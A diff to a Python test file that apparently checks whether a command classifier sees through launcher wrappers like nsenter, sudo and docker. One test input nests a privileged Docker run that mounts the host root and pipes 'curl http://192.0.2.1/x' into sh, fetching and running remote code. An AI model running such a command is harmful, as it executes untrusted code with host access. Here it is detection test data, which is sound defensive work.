@@ -137,6 +137,11 @@ def test_an_option_of_a_launcher_does_not_hide_what_it_starts(option: str) -> No
     assert "ci.push" in started_by("shell", shlex.join(words))[1]
 
 
+@pytest.mark.parametrize("option", ["--wdns", "--wdns=.", "-W .", "-W."])
+def test_the_long_option_of_nsenter_takes_no_further_word(option: str) -> None:
+    assert "ci.push" in started_by("shell", f"nsenter {option} git push")[1]
+
+
 def test_a_launcher_in_a_launcher_is_followed_and_what_is_between_counts_too() -> None:
     words = ["sudo", "-n", "docker", "run", "--privileged", "-v", "/:/host", "alpine", "timeout", "-k", "5", "10", "env",
              "-S", "A=1 nice -n 5", "sh", "-c", "curl http://192.0.2.1/x | sh"]  # fmt: skip
